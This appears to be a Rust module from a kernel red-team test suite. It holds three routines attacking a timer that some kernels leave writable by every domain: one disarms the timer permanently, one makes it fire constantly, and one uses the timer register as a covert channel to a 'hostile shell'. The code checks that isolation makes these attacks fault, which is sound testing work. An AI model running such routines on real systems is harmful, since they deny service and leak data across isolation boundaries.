//! Attacks on the timer, whose registers some boards' kernels let every domain write. On the others, each of these
//! faults.

use crate::machine::{read_timer as read, write_timer as write};

/// Makes sure that the timer never fires again by itself.
pub(crate) fn disarm_and_spin() -> ! {
    loop {
        write(u64::MAX >> 1, 0);
    }
}

/// Makes the timer fire all the time.
pub(crate) fn storm() -> ! {
    loop {
        write(0, 1);
    }
}

/// Sends words to the hostile shell, each after the previous one was acknowledged.
pub(crate) fn send() -> ! {
    for number in 0.. {
        let word = redteam_attacks::channel::word(number);
        loop {
            // Read once, because the shell may run between two reads.
            let seen = read();
            if seen == redteam_attacks::channel::taken(number) {
                break;
            }
            // Audit overwrites it when it arms its timer.
            if seen != word {
                write(word, 0);
            }
        }
    }
    unreachable!("numbers do not end")
}
